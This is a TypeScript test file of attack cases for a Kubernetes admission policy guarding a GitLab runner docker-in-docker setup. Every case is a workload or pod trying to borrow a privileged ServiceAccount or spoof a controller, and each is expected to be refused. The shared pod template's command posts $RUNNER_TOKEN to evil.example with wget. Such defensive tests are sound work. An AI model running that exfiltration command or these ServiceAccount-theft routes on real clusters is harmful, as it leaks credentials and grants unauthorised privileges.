import type { AdmissionAttack, Attack } from '../attack';
import { withMetadata } from '../objects';
import { creating } from '../request';
import { JOBS, VISITOR } from '../users';
import { DIND_MANAGER_POD, object, refused } from './subjects';

const TEMPLATE = {
  metadata: { labels: { app: 'mine' } },
  spec: {
    serviceAccountName: 'dind-manager',
    containers: [
      {
        name: 'manager',
        image: 'registry.gitlab.com/gitlab-org/gitlab-runner:alpine-v19.3.2',
        command: ['sh', '-c', 'wget --post-data $RUNNER_TOKEN https://evil.example'],
      },
    ],
  },
};
const ONCE = { ...TEMPLATE, spec: { ...TEMPLATE.spec, restartPolicy: 'Never' } };
const SELECTED = { selector: { matchLabels: { app: 'mine' } }, template: TEMPLATE };

const WORKLOADS: readonly (readonly [kind: string, resource: string, group: string, spec: object])[] = [
  ['Deployment', 'deployments', 'apps', SELECTED],
  ['ReplicaSet', 'replicasets', 'apps', SELECTED],
  ['StatefulSet', 'statefulsets', 'apps', { ...SELECTED, serviceName: 'none' }],
  ['DaemonSet', 'daemonsets', 'apps', SELECTED],
  ['Job', 'jobs', 'batch', { template: ONCE }],
  ['CronJob', 'cronjobs', 'batch', { schedule: '* * * * *', jobTemplate: { spec: { template: ONCE } } }],
  ['ReplicationController', 'replicationcontrollers', '', { selector: { app: 'mine' }, template: TEMPLATE }],
];

const written = (
  kind: string,
  resource: string,
  group: string,
  name: string,
  spec: object,
): AdmissionAttack['request'] =>
  creating(VISITOR, resource, object(group === '' ? 'v1' : `${group}/v1`, kind, name, { spec }), {
    group,
    version: 'v1',
  });

/** Row 16: workloads that take the ServiceAccount of a manager or of a job. */
export const WORKLOADS_OF_MANAGERS: readonly Attack[] = [
  ...WORKLOADS.map(([kind, resource, group, spec]) =>
    refused(
      16,
      'U',
      `a ${kind} takes the ServiceAccount of the manager of dind`,
      'workloads',
      'workload-service-account',
      written(kind, resource, group, 'dind-manager-x', spec),
    ),
  ),
  refused(
    16,
    'U',
    'a Deployment takes the ServiceAccount of a job, by its name too',
    'workloads',
    'workload-service-account',
    written('Deployment', 'deployments', 'apps', 'docker-job', {
      ...SELECTED,
      template: { ...TEMPLATE, spec: { ...TEMPLATE.spec, serviceAccountName: 'docker-job' } },
    }),
  ),
  refused(
    9,
    'U',
    'the Deployment of dind is written for another config',
    'configs',
    'config-checksum',
    written('Deployment', 'deployments', 'apps', 'dind-manager', SELECTED),
  ),
];

const otherControllers = ['statefulset-controller', 'daemon-set-controller', 'replication-controller'].map(
  (name) => `system:serviceaccount:kube-system:${name}`,
);

/** Row 16: managers that no ReplicaSet makes. */
export const MANAGERS_OF_OTHER_CONTROLLERS: readonly Attack[] = [JOBS, VISITOR, ...otherControllers].flatMap(
  (user) =>
    (['other-service-account', 'other-labels', 'other-secrets', 'other-priority'] as const).map((rule) =>
      refused(
        16,
        'U',
        `a manager made by ${user.replace(/.*:/, '')}, seen by ${rule}`,
        'other-pods',
        rule,
        creating(user, 'pods', withMetadata(DIND_MANAGER_POD, { ownerReferences: [] })),
      ),
    ),
);
